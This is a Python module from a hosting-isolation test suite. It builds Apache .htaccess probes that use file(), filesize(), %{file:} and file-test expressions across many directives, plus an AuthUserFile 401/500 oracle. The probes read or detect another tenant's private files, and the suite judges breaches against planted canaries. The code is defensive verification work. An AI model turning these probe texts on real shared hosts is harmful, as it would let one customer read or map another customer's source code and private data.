"""Apache: what a tenant's .htaccess can learn about another tenant's files. Apache
reads .htaccess files as www-data, which reads every docroot through ACLs, and its
expressions can name any path.

- apache.htaccess-read: file(), filesize() and %{file:...} in every directive that
  takes an expression (<If>, Require expr, ErrorDocument, AuthName, Redirect, Header,
  SetEnvIfExpr, RewriteCond, SSLRequire), aimed at the target's PHP code canary, whose
  source Apache never serves. BREACHED when the canary's text comes back, or when a
  condition on its content or size answers the right guess differently from a wrong
  one.
- apache.htaccess-oracle: file tests (-e, -s, -f, -F) and AuthUserFile (401 when
  www-data can read the file, 500 when not) aimed at the target's private files (a
  dir the target makes in its home, its writable dirs outside docroots), each against
  a missing sibling. A site's own file and a missing one show whether the oracle
  works there at all. Names www-data can stat anyway (the target's docroot tree, the
  entries of its home) are the accepted residual (docs/verify.md): reported in the
  evidence, not as a breach.

Each .htaccess goes into its own directory (an unknown or refused directive makes
Apache refuse the whole file with a 500)."""

from __future__ import annotations

import os
import urllib.parse
from dataclasses import dataclass

from phphost.spec.validate import is_inside
from phphost.verify.attack import Attack
from phphost.verify.context import Ctx
from phphost.verify.docroot import subdir
from phphost.verify.fixtures import data_dirs
from phphost.verify.result import Result, judged
from phphost.verify.web import HttpResponse

FAMILY = "apache"
INDEX = "index.html"
MISSING = "verify-missing.html"
HIT_HEADER = "X-Verify-Hit"
WRONG = "VERIFY-NO-SUCH-TEXT"
# AuthUserFile is only opened when the client sends credentials
BASIC = ("Authorization", "Basic dmVyaWZ5OnZlcmlmeQ==")    # verify:verify


@dataclass(frozen=True)
class ReadProbe:
    name: str
    htaccess: str
    request: str = INDEX         # what to GET in the probe's directory
    right: str = ""              # a wrong guess: the probe with the right guess it mirrors


def _deny_if(condition: str) -> str:
    return f'<If "{condition}">\n    Require all denied\n</If>\n'


def _guesses(name: str, right: str, wrong: str) -> list[ReadProbe]:
    return [ReadProbe(name, right), ReadProbe(f"{name}-wrong", wrong, right=name)]


def read_probes(path: str, token: str, size: int) -> list[ReadProbe]:
    """Pure: .htaccess texts that read `path` (whose content holds `token` and which
    is `size` bytes long) through Apache expressions."""
    def matches(text: str) -> str:
        return f"file('{path}') =~ /{text}/"

    probes = [
        *_guesses("if-file", _deny_if(matches(token)), _deny_if(matches(WRONG))),
        *_guesses("if-filesize", _deny_if(f"filesize('{path}') -eq {size}"),
                  _deny_if(f"filesize('{path}') -eq {size + 1}")),
        *_guesses("require-expr", f'Require expr "{matches(token)}"\n',
                  f'Require expr "{matches(WRONG)}"\n'),
        *_guesses("header-expr", f'Header always set {HIT_HEADER} 1 "expr={matches(token)}"\n',
                  f'Header always set {HIT_HEADER} 1 "expr={matches(WRONG)}"\n'),
        *_guesses("setenvifexpr",
                  f'SetEnvIfExpr "{matches(token)}" VERIFY_HIT=1\n'
                  'Require expr "-z %{reqenv:VERIFY_HIT}"\n',
                  f'SetEnvIfExpr "{matches(WRONG)}" VERIFY_HIT=1\n'
                  'Require expr "-z %{reqenv:VERIFY_HIT}"\n'),
        *_guesses("rewritecond",
                  f'RewriteEngine On\nRewriteCond expr "{matches(token)}"\nRewriteRule ^ - [F]\n',
                  f'RewriteEngine On\nRewriteCond expr "{matches(WRONG)}"\nRewriteRule ^ - [F]\n'),
        *_guesses("sslrequire", f"SSLRequire {matches(token)}\n", f"SSLRequire {matches(WRONG)}\n"),
    ]
    read = f"%{{file:{path}}}"
    return [
        *probes,
        ReadProbe("errordocument", f'ErrorDocument 404 "{read}"\n', MISSING),
        ReadProbe("errordocument-if", f'<If "true">\n    ErrorDocument 404 "{read}"\n</If>\n',
                  MISSING),
        ReadProbe("authname", f'AuthType Basic\nAuthName "{read}"\nAuthUserFile /dev/null\n'
                  "Require valid-user\n"),
        ReadProbe("redirect-if", f'<If "true">\n    Redirect temp "http://verify.invalid/{read}"\n'
                  "</If>\n"),
        ReadProbe("header", f'Header always set X-Verify-Read "expr={read}"\n'),
    ]


def answer(resp: HttpResponse) -> str:
    """Pure: what a boolean probe's answer looks like: status, and the hit header."""
    hit = any(line.lower().startswith(HIT_HEADER.lower() + ":")
              for line in resp.head.split("\r\n"))
    return f"{resp.status}{'+hit' if hit else ''}"


def read_breaches(probes: list[ReadProbe], seen: dict[str, HttpResponse],
                  token: str) -> list[str]:
    """Pure: which probes read the file: its text came back, or the right and the
    wrong guess were answered differently."""
    hits = []
    for probe in probes:
        resp = seen[probe.name]
        if token in resp.head or token in resp.text:
            hits.append(f"{probe.name}: the canary's text came back ({resp.brief(60)})")
        if probe.right and answer(seen[probe.right]) != answer(resp):
            hits.append(f"{probe.right}: the right guess got {answer(seen[probe.right])}, "
                        f"a wrong one {answer(resp)}")
    return hits


def read_dir_stem(probe: str, target: str) -> str:
    """Pure: the stem of the directory a read probe goes into (the weakened-host test
    copies the probes into Apache's main config for exactly these directories)."""
    return f"read-{probe}-{target}"


def htaccess_read(ctx: Ctx) -> Result:
    target = ctx.target_tenant
    canary = ctx.run.fixtures.code_canary(target)
    # the size verify wrote: root never stats a path in the target tenant's tree by name
    probes = read_probes(canary.path, canary.token, canary.size)
    seen: dict[str, HttpResponse] = {}
    for probe in probes:
        url = subdir(ctx, read_dir_stem(probe.name, target.name),
                     {".htaccess": probe.htaccess.encode(), INDEX: b"verify\n"})
        seen[probe.name] = ctx.run.web.get(ctx.site, url + probe.request)
    evidence = ", ".join(f"{p.name} {answer(seen[p.name])}" for p in probes)
    tried = (f"tenant {ctx.tenant.name}'s .htaccess on {ctx.site.server_name} reads "
             f"{canary.path} with file(), filesize(), %{{file:}}")
    return judged(read_breaches(probes, seen, canary.token), tried, evidence)


# --- the existence oracle -----------------------------------------------------------------

# .htaccess -> condition on the path in the query string (one directory per site)
ORACLE_EXPRS = {
    "if-e": _deny_if("-e %{QUERY_STRING}"),
    "if-s": _deny_if("-s %{QUERY_STRING}"),
    "if-F": _deny_if("-F %{QUERY_STRING}"),
    "require-expr-f": 'Require expr "-f %{QUERY_STRING}"\n',
}


def authuserfile(path: str) -> str:
    """Pure: an .htaccess whose answer (401 or 500) tells whether www-data can read path."""
    return f'AuthType Basic\nAuthName verify\nAuthUserFile "{path}"\nRequire valid-user\n'


@dataclass(frozen=True)
class Pair:
    """A file that exists and a missing sibling, and what they are to the oracle."""

    kind: str        # "own" (the control), "private" (a breach if told), "residual"
    exists: str
    missing: str


def told(answers: dict[str, tuple[str, str]]) -> list[str]:
    """Pure: the probes whose answers for the existing and the missing path differ."""
    return [probe for probe, (there, not_there) in answers.items() if there != not_there]


def oracle_verdict(results: dict[Pair, dict[str, tuple[str, str]]]) -> tuple[list[str], str]:
    """Pure: (breaches, evidence) from each pair's answers per probe."""
    hits, lines = [], []
    for pair, answers in results.items():
        which = told(answers)
        shown = ", ".join(f"{p} {a}/{b}" for p, (a, b) in answers.items())
        if pair.kind == "private" and which:
            hits.append(f"{', '.join(which)} tell(s) that {pair.exists} exists ({shown})")
        elif pair.kind == "own":
            works = f"works ({', '.join(which)})" if which else "does not work"
            lines.append(f"control: the oracle {works} on the site's own files ({shown})")
        elif pair.kind == "residual":
            lines.append(f"residual (names www-data can stat): {', '.join(which) or 'nothing'}"
                         f" tell(s) about {pair.exists}")
        else:
            lines.append(f"{pair.exists}: not told ({shown})")
    return hits, "; ".join(lines)


def _sibling(ctx: Ctx, path: str) -> str:
    return os.path.join(os.path.dirname(path), ctx.name("nothere.txt"))


def _own_pair(ctx: Ctx) -> Pair:
    key = ("oracle-own", ctx.site.name)
    if key not in ctx.run.memo:
        path = os.path.join(ctx.docroot, ctx.name(f"{ctx.site.name}-oracle-own.txt"))
        ctx.run.scratch.write(ctx.tenant, path, b"verify\n")
        ctx.run.memo[key] = Pair("own", path, _sibling(ctx, path))
    pair: Pair = ctx.run.memo[key]
    return pair


def _private_pairs(ctx: Ctx) -> list[Pair]:
    """Files of the target the web server has no business seeing: one in a private
    dir it makes in its home, its data canaries in writable dirs outside docroots."""
    target = ctx.target_tenant
    key = ("oracle-private", target.name)
    if key not in ctx.run.memo:
        private = os.path.join(target.home, ctx.name("private"))
        ctx.run.scratch.mkdir(target, private)
        path = ctx.run.scratch.write(target, os.path.join(private, ctx.name("secret.txt")),
                                     b"verify\n")
        pairs = [Pair("private", path, _sibling(ctx, path))]
        roots = [s.docroot for s in ctx.model.sites if s.docroot is not None]
        outside = [d for d in data_dirs(ctx.model, target)
                   if not any(is_inside(d, r) for r in roots)]
        pairs += [Pair("private", c.path, _sibling(ctx, c.path))
                  for c in ctx.run.fixtures.data_canaries(target)
                  if os.path.dirname(c.path) in outside]
        canary = ctx.run.fixtures.code_canary(target)
        pairs.append(Pair("residual", canary.path, _sibling(ctx, canary.path)))
        ctx.run.memo[key] = pairs
    found: list[Pair] = ctx.run.memo[key]
    return found


def _expr_dirs(ctx: Ctx) -> dict[str, str]:
    key = ("oracle-dirs", ctx.site.name)
    if key not in ctx.run.memo:
        ctx.run.memo[key] = {
            probe: subdir(ctx, f"oracle-{probe}", {".htaccess": text.encode(),
                                                   INDEX: b"verify\n"})
            for probe, text in ORACLE_EXPRS.items()}
    dirs: dict[str, str] = ctx.run.memo[key]
    return dirs


def _auth_answer(ctx: Ctx, path: str) -> str:
    key = ("oracle-auth", ctx.site.name, path)
    if key not in ctx.run.memo:
        stem = f"oracle-auth-{len([k for k in ctx.run.memo if k[0] == 'oracle-auth'])}"
        url = subdir(ctx, stem, {".htaccess": authuserfile(path).encode(), INDEX: b"verify\n"})
        ctx.run.memo[key] = answer(ctx.run.web.get(ctx.site, url + INDEX, [BASIC]))
    return str(ctx.run.memo[key])


def _answers(ctx: Ctx, pair: Pair) -> dict[str, tuple[str, str]]:
    out: dict[str, tuple[str, str]] = {}
    for probe, url in _expr_dirs(ctx).items():
        there, not_there = (answer(ctx.run.web.get(
            ctx.site, f"{url}{INDEX}?{urllib.parse.quote(p, safe='/')}"))
            for p in (pair.exists, pair.missing))
        out[probe] = (there, not_there)
    out["authuserfile"] = (_auth_answer(ctx, pair.exists), _auth_answer(ctx, pair.missing))
    return out


def htaccess_oracle(ctx: Ctx) -> Result:
    pairs = [_own_pair(ctx), *_private_pairs(ctx)]
    hits, evidence = oracle_verdict({pair: _answers(ctx, pair) for pair in pairs})
    tried = (f"tenant {ctx.tenant.name}'s .htaccess on {ctx.site.server_name} tests "
             f"{', '.join(p.exists for p in pairs[1:])} (and missing siblings) with "
             f"{', '.join(ORACLE_EXPRS)}, authuserfile")
    return judged(hits, tried, evidence)


ATTACKS = (
    Attack("apache.htaccess-read", FAMILY, ".htaccess expressions read another tenant's "
           "file (file(), filesize(), %{file:})", "site>tenant", htaccess_read),
    Attack("apache.htaccess-oracle", FAMILY, ".htaccess file tests tell whether another "
           "tenant's private files exist", "site>tenant", htaccess_oracle),
)
